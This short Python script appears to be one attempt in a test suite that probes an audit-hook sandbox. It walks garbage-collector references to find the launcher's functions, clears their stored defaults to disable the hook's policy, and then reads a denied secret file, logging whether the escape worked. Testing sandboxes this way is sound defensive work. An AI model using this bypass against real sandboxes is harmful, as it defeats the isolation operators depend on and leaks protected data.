# gc.get_referrers / gc.get_objects to reach the audit hook and its policy: find every function of
# the launcher and clear its defaults (where the hook keeps its state), then read the denied file.
import gc
import sys

from _attempt import env, escaped, note, step

secret = env('SECRET')
found = step('gc.get_referrers(sys.modules)', lambda: gc.get_referrers(sys.modules))
objs = step('gc.get_objects', gc.get_objects)
hooks = [o for o in objs if type(o).__name__ == 'function' and 'launcher' in getattr(o.__code__, 'co_filename', '')]
note('%d referrers of sys.modules, %d functions of the launcher found' % (len(found), len(hooks)))
for f in hooks:
    try:
        f.__defaults__ = None
    except Exception as e:  # noqa: BLE001
        note('cannot clear %s: %s' % (f.__name__, e))
with step('open', lambda: open(secret)) as f:
    escaped('after tampering through gc: open read ' + f.read())
